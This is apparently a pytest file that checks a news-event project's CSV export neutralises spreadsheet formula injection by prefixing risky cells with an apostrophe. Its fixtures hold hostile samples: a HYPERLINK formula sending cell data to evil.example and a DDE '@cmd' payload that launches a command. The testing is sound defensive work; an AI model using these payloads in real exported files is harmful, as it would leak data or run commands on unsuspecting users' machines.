"""CSV formula injection (OWASP): hostile scraped text reaches the CSV as text, not formulas."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest

from khronika.export.csvsafe import safe_cell
from khronika.export.records import ExportQuery
from khronika.export.run import export
from khronika.model import Claim, Count, DateRange, Document, Evidence, Place
from khronika.store import open_store

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("value", ["=1+1", "+7 911", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_csv_formula_starts_are_neutralised(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", [-37.5, 12, "Moscow", "a=b", None])
def test_csv_other_cells_untouched(value: object) -> None:
    assert safe_cell(value) == value


def test_csv_export_round_trips_hostile_outlet_source_and_evidence(tmp_path: Path) -> None:
    sentence = "@cmd|'/c calc'!A0 police detained 40 migrants in Moscow."
    doc = Document("d", sentence, "en", outlet=HOSTILE)
    place = Place("Moscow", "RU", 55.7558, -37.6, "city", "Moscow", "Москва", 524901, "48")
    claim = Claim(
        doc_id="d", claim_id="d-0", event_type="detention",
        date=DateRange(date(2024, 1, 10), date(2024, 1, 10), "day"), location=place,
        actors=("police",), targets=("migrants",), count=Count(40, 40, "exact"),
        attribution=("-cmd source",), certainty="reported",
        evidence=Evidence(sentence, 0, len(sentence)),
    )
    store = open_store(tmp_path / "k.db")
    store.save_document(doc, [claim])
    buf = io.StringIO()
    export(store, buf, format="csv", query=ExportQuery(), redactor=None, timestamp=1)
    store.close()
    rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
    cells = [v for row in rows for v in row.values()]
    live = [c for c in cells if c and c[0] in "=+-@\t\r" and not _number(c)]
    assert not live, live
    # the text survives whole behind the apostrophe: nothing is lost, nothing is live
    assert "'" + HOSTILE in cells
    assert any(c.startswith("'@cmd|") and c[1:] == sentence for c in cells)
    assert rows[0]["longitude"] == "-37.6"  # numbers stay numbers


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
